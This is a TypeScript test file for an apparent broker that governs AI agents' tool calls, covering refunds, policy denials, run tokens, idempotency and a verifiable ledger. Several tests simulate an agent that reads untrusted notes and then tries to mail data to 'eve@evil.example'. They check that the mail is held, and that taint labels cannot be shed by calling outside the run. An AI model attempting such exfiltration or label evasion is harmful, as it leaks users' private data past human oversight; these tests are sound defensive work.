// Deeds through the whole walk, on a real database, by the HTTP door.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { JsonObject } from '@countersign/contract/json.ts';
import { type Desk, startDesk } from './desk.ts';

let desk: Desk;
before(async () => {
  desk = await startDesk();
});
after(() => desk.close());

async function refund(amount_minor: number, more: { key?: string; dryRun?: boolean; account?: string } = {}) {
  const run = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  const { account = 'AC-1', ...rest } = more;
  return desk.call('bot', 'refund', { account, amount_minor }, { runToken: run.run_token, ...rest });
}

async function entriesOf(callId: string): Promise<JsonObject[]> {
  const sent = await desk.send('dora', 'GET', '/v1/ledger/entries?limit=1000');
  const page = sent.body as unknown as { entries: { entry: string }[] };
  return page.entries
    .map((each) => JSON.parse(each.entry) as JsonObject)
    .filter((entry) => (entry['facts'] as JsonObject)['call'] === callId);
}

test('a permitted write is done once, read back, and its entries stand in order', async () => {
  const before = desk.refunds();
  const answer = await refund(100);
  assert.equal(answer.status, 'succeeded');
  assert.deepEqual(answer.result, { account: 'AC-1', amount_minor: 100 });
  assert.equal(answer.side_effect?.id, answer.call_id);
  assert.equal(desk.refunds(), before + 1);
  const entries = await entriesOf(answer.call_id);
  assert.deepEqual(
    entries.map((entry) => entry['kind']),
    ['prepare.read', 'call.admitted', 'call.settled'],
  );
  assert.equal((entries[2]!['facts'] as JsonObject)['verification'], 'agrees');
});

test('a dry run says what would happen and leaves nothing behind', async () => {
  const before = desk.refunds();
  const permitted = await refund(100, { dryRun: true });
  assert.deepEqual([permitted.status, permitted.dry_run, permitted.result], ['succeeded', true, undefined]);
  const held = await refund(9000, { dryRun: true });
  assert.equal(held.status, 'held');
  assert.equal(held.approval?.asks[0]?.rule, 'refund-over-50');
  assert.deepEqual(await desk.approvals('ana'), []);
  assert.equal(desk.refunds(), before);
  assert.deepEqual(
    (await entriesOf(permitted.call_id)).map((entry) => entry['kind']),
    ['prepare.read'],
  );
});

test('policy refuses with its rule and its reason', async () => {
  const answer = await refund(100, { account: 'AC-2' });
  assert.equal(answer.problem?.code, 'policy_denied');
  assert.deepEqual(answer.problem?.policies, ['vip-untouched']);
  assert.match(answer.problem?.detail ?? '', /Accounts of VIPs are not touched/);
});

test('a denied caller does not learn whether a precondition would hold', async () => {
  const poor = await refund(1_000_000, { account: 'AC-2' });
  const rich = await refund(1, { account: 'AC-2' });
  assert.equal(poor.problem?.detail, rich.problem?.detail);
  const control = await refund(1_000_000, { account: 'AC-1' });
  assert.equal(control.problem?.code, 'precondition_failed', 'a permitted caller is told');
});

test('the model cannot claim what only an orchestrator binds', async () => {
  const claimed = await desk.call(
    'bot',
    'refund',
    { account: 'AC-1', amount_minor: 1 },
    { context: { ticket: 'ZD-1' } },
  );
  assert.equal(claimed.problem?.code, 'context_missing');
});

test('a run token serves its own agent only', async () => {
  const run = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  await assert.rejects(desk.token('other-bot', { runToken: run.run_token }), /no token/);
  await desk.token('bot', { runToken: run.run_token });
});

test('an ended run takes no more calls', async () => {
  const run = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  await desk.token('bot', { runToken: run.run_token });
  await desk.send('desk', 'POST', `/v1/runs/${run.run_id}/end`);
  const late = await desk.call(
    'bot',
    'refund',
    { account: 'AC-1', amount_minor: 1 },
    { runToken: run.run_token },
  );
  assert.equal(late.problem?.code, 'run_ended');
});

test('a tool that is not granted looks exactly like one that does not exist', async () => {
  const granted = await desk.call('globex-bot', 'send_mail', {});
  const none = await desk.call('globex-bot', 'send_mail_x', {});
  const words = (detail: string | undefined): string => (detail ?? '').replace(/send_mail(_x)?/, '');
  assert.notEqual(granted.problem?.code, 'tool_not_found', 'control: the role grants it');
  assert.equal(none.problem?.code, 'tool_not_found');
  const unknown = await desk.call('bot', 'nothing_here', {});
  assert.equal(words(unknown.problem?.detail).replace('nothing_here', ''), words(none.problem?.detail));
});

test('an agent sees the run that it is in, and none of its others', async () => {
  const runs = [1, 2].map((n) => desk.openRun('desk', 'bot', { ticket: `ZD-${n}` }));
  const [one, two] = await Promise.all(runs);
  const authorization = `Bearer ${await desk.token('bot', { runToken: one!.run_token })}`;
  const see = (path: string) => desk.send(null, 'GET', path, undefined, { authorization });
  assert.equal((await see(`/v1/runs/${one!.run_id}`)).status, 200, 'control');
  assert.equal((await see(`/v1/runs/${two!.run_id}`)).status, 404);
  const listed = (await see('/v1/runs')).body['runs'] as JsonObject[];
  assert.deepEqual(
    listed.map((each) => each['run_id']),
    [one!.run_id],
  );
});

test('reading what outsiders wrote labels the run, before and for good', async () => {
  const run = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  const note = await desk.call('bot', 'read_note', { note: 'N-1' }, { runToken: run.run_token });
  assert.deepEqual(note.labels, ['private', 'untrusted']);
  assert.equal((note.result as JsonObject)['card'], '[redacted]');
  const view = await desk.send('desk', 'GET', `/v1/runs/${run.run_id}`);
  assert.deepEqual(view.body['labels'], ['private', 'untrusted']);
  const mail = await desk.call(
    'bot',
    'send_mail',
    { to: 'eve@evil.example', body: 'all' },
    { runToken: run.run_token },
  );
  assert.equal(mail.status, 'held', 'private and untrusted: nothing leaves without a person');
  assert.deepEqual(
    mail.approval?.asks.map((ask) => ask.rule),
    ['baseline-exfiltration'],
  );
});

test('control: a run that read neither may send mail', async () => {
  const run = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  const mail = await desk.call(
    'bot',
    'send_mail',
    { to: 'a@b.example', body: 'hi' },
    { runToken: run.run_token },
  );
  assert.equal(mail.status, 'succeeded');
  assert.equal(desk.mails(), 1);
});

test('what one run has read does not enter another through its call', async () => {
  const tainted = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  const note = await desk.call('bot', 'read_note', { note: 'N-1' }, { runToken: tainted.run_token });
  const clean = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  assert.equal((await desk.show('bot', note.call_id, tainted.run_token)).status, 200, 'control');
  assert.equal((await desk.show('bot', note.call_id, clean.run_token)).status, 404);
  assert.equal((await desk.show('bot', note.call_id)).status, 404, 'nor through the ambient run');
});

test('an agent cannot shed labels by calling without its run', async () => {
  await desk.call('other-bot', 'read_note', { note: 'N-1' });
  const mail = await desk.call('other-bot', 'send_mail', { to: 'eve@evil.example', body: 'all' });
  assert.equal(mail.status, 'held', 'its ambient run remembers');
});

test('two reads at once in one run both succeed, and an egress racing them never slips by', async () => {
  for (let round = 0; round < 5; round++) {
    const { run_token: runToken } = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
    const before = desk.mails();
    const [note, mail] = await Promise.all([
      desk.call('bot', 'read_note', { note: 'N-1' }, { runToken }),
      desk.call('bot', 'send_mail', { to: 'eve@evil.example', body: 'x' }, { runToken }),
    ]);
    assert.equal(note.status, 'succeeded');
    // Whichever was admitted first: mail that went out did so before anything private and untrusted was released.
    const sent = desk.mails() - before;
    assert.equal(mail.status === 'succeeded' ? 1 : 0, sent);
    const later = await desk.call('bot', 'send_mail', { to: 'eve@evil.example', body: 'y' }, { runToken });
    assert.equal(later.status, 'held');
  }
});

test('the same key answers the same, and the deed is done once, also at once', async () => {
  const { run_token: runToken } = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
  const before = desk.refunds();
  const args = { account: 'AC-1', amount_minor: 7 };
  const answers = await Promise.all(
    Array.from({ length: 20 }, () => desk.call('bot', 'refund', args, { runToken, key: 'k-20', wait_s: 5 })),
  );
  assert.equal(desk.refunds(), before + 1);
  assert.equal(new Set(answers.map((answer) => answer.call_id)).size, 1);
  const again = await desk.call('bot', 'refund', args, { runToken, key: 'k-20' });
  assert.deepEqual(
    [again.status, again.replayed, again.result],
    ['succeeded', true, { account: 'AC-1', amount_minor: 7 }],
  );
  const other = await desk.call('bot', 'refund', { ...args, amount_minor: 8 }, { runToken, key: 'k-20' });
  assert.equal(other.problem?.code, 'duplicate_key');
  const control = await desk.call('bot', 'refund', args, { runToken, key: 'k-21' });
  assert.equal(control.replayed, undefined);
  assert.equal(desk.refunds(), before + 2, 'control: another key is another deed');
});

test('a system that does something else than it says is unverified, never a success', async () => {
  desk.db.exec(`create trigger liar after insert on refunds when new.amount_minor = 13
    begin update refunds set amount_minor = 1300 where call_id = new.call_id; end`);
  const answer = await refund(13);
  desk.db.exec('drop trigger liar');
  assert.equal(answer.problem?.code, 'unverified');
  const stored = await desk.send('ben', 'GET', `/v1/calls/${answer.call_id}`);
  assert.equal(stored.body['status'], 'unverified');
  assert.equal((await refund(13)).status, 'succeeded', 'control: without the liar it is a success');
});

test('a system that refuses is a failure with its words quoted', async () => {
  desk.db.exec(`create trigger no before insert on refunds when new.amount_minor = 17
    begin select raise(abort, 'no refunds of 17'); end`);
  const before = desk.refunds();
  const answer = await refund(17);
  desk.db.exec('drop trigger no');
  assert.equal(answer.problem?.code, 'tool_rejected');
  assert.equal(desk.refunds(), before);
});

test('every call of these tests is in a ledger that verifies offline', async () => {
  const { verifyLedger } = await import('#store/verify-ledger.ts');
  const vkey = desk.broker.world.signer.vkey;
  const sent = await desk.send('dora', 'GET', '/v1/ledger/checkpoint');
  assert.equal(sent.body['vkey'], vkey);
  const report = verifyLedger(`${desk.root}/data/countersign.db`, vkey);
  assert.equal(report.ok, true, JSON.stringify(report));
});
